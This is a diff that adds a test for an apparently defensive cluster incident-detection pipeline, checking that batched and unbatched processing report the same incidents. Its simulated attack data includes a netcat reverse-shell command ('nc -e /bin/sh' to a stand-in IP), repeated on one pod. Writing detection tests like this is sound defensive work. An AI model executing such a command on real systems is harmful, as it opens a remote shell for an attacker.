@@ -71,6 +71,27 @@ def test_one_event_at_a_time() -> None:
     assert run(list(range(len(WHOLE)))) == ONCE
 
 
+def test_what_goes_on_is_told_again_in_one_table_as_in_many() -> None:
+    life = Cluster()
+    pods = life.pods(5)
+    life.normal(pods, 0, 2000, every=4)
+    for second in range(100, 2000, 7):  # longer than a cool-down, and much more often than there is room for evidence
+        life.exec(second + 0.5, pods[2], "/usr/bin/nc", args=("nc", "-e", "/bin/sh", "203.0.113.9"))
+    table = life.table()
+
+    def told(rows: int) -> list[Incident]:
+        analysis, said = Analysis(), []
+        for begin in range(0, len(table), rows):
+            said += analysis.observe(table.take(np.arange(begin, min(begin + rows, len(table)))))
+        return said + analysis.finish()
+
+    once = told(len(table))
+
+    assert len(latest(once)) >= 2
+    assert told(1) == once
+    assert told(331) == once
+
+
 def test_there_is_something_to_find() -> None:
     assert len(alerts(latest(ONCE))) >= 3
 
